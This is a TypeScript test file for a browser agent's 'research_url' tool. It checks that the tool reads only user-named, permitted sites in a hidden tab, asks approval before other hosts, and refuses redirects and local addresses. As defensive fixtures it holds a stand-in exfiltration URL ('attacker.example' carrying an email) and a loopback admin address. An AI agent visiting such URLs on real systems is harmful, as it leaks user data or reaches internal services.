import { describe, expect, it } from 'vitest';
import type { AccessFacts } from '../../../../worker/site-access/bridge-access';
import type { ToolDefinition, ToolRunContext } from '../../../../worker/tools/define-tool';
import { needsApproval } from '../../../../worker/tools/approval-policy';
import { checkSchemaSubset } from '../../../../worker/tools/schema-subset';
import { createWebRunState } from '../safety/observations';
import type { HiddenTabApi } from './hidden-tab';
import { researchUrlTool } from './research-url.tool';

const granted = (...hosts: string[]): AccessFacts => ({
  allowed: {
    always: hosts.map((host) => ({
      pattern: `https://${host}/*`,
      since: 1,
      permission: 'requested' as const,
    })),
  },
  browserOrigins: hosts.map((host) => `https://${host}/*`),
  activeTabs: [],
  browser: 'chromium',
});

function setup(finalUrl: string | null, facts = granted('shop.example', 'reviews.example')) {
  const opened: string[] = [];
  const closed: number[] = [];
  const tabs: HiddenTabApi = {
    open: async (url) => (opened.push(url), 50),
    loaded: async (_tab, _signal) => finalUrl ?? opened.at(-1) ?? '',
    read: async () => ({ title: 'Reviews', text: 'Four stars: sturdy mug.' }),
    close: async (tabId) => void closed.push(tabId),
  };
  const tool = researchUrlTool({
    tabs,
    tabUrl: async () => 'https://shop.example/mug',
    accessFacts: async () => facts,
  });
  const context = {
    state: { site: createWebRunState() },
    signal: new AbortController().signal,
    page: { tabId: 7 },
    identity: { scope: { siteId: 'web', projectId: 'https://shop.example' } },
    personText: ['Check what reviews.example says about this mug'],
  } as unknown as ToolRunContext;
  return { tool, context, opened, closed };
}

const none = () => false;

describe('research_url', () => {
  it('reads a named site in a hidden tab without asking, as untrusted page content', async () => {
    const { tool, context, opened, closed } = setup(null);
    expect(checkSchemaSubset(tool.inputSchema).ok).toBe(true);
    const args = { url: 'https://reviews.example/mug' };
    const review = await tool.review!(args, context);
    expect(needsApproval(tool as ToolDefinition<unknown>, 'ask', new Set(), none, review)).toBe(
      'none',
    );
    const outcome = await tool.execute(args, context);
    expect(outcome).toMatchObject({
      ok: true,
      result: {
        untrusted_page_content: {
          source: 'https://reviews.example/mug',
          content: { title: 'Reviews', text: 'Four stars: sturdy mug.' },
        },
      },
    });
    expect(opened).toEqual(['https://reviews.example/mug']);
    expect(closed).toEqual([50]);
  });

  it('asks before a site nobody named, as fetch_url does', async () => {
    const { tool, context, opened } = setup(null);
    const review = await tool.review!(
      { url: 'https://attacker.example/?mail=a@b.example' },
      context,
    );
    expect(needsApproval(tool as ToolDefinition<unknown>, 'ask', new Set(), none, review)).toBe(
      'action-approval',
    );
    expect(opened).toEqual([]);
  });

  it('closes unread a page that moved to a site it may not read', async () => {
    const moved = setup('https://tracker.example/landing');
    expect(
      await moved.tool.execute({ url: 'https://reviews.example/mug' }, moved.context),
    ).toMatchObject({
      ok: false,
      code: 'RESEARCH_REFUSED',
    });
    expect(moved.closed).toEqual([50]);
    // A named site the person never allowed Side Agent on is not read either.
    const notGranted = setup(null, granted('shop.example'));
    expect(
      await notGranted.tool.execute({ url: 'https://reviews.example/mug' }, notGranted.context),
    ).toMatchObject({ ok: false, code: 'RESEARCH_REFUSED' });
    expect(notGranted.closed).toEqual([50]);
  });

  it('refuses addresses fetch_url never reaches, opening nothing', async () => {
    const { tool, context, opened } = setup(null);
    expect(await tool.execute({ url: 'http://127.0.0.1:8080/admin' }, context)).toMatchObject({
      ok: false,
      code: 'FETCH_ADDRESS_REFUSED',
    });
    expect(opened).toEqual([]);
  });
});
